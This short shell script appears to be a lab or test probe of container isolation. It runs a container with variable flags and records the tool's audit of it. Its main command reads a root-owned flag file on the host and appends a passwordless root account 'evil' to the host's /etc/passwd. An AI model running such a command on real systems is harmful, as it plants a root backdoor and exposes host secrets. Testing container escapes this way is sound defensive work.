#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A container reads a secret of the host's root and adds a user to the host. "$@" are the arm's flags.
minibox run --rm "$@" lab/box sh -c 'cat /host/root/flag; echo ran; echo "evil::0:0::/:/bin/sh" >>/host/etc/passwd'
status=$?
# What the audit says of such a container.
if minibox run -d --name audited "$@" lab/box sleep 600 2>/dev/null; then minibox audit -v audited >/lab/audit 2>&1; fi
exit $status
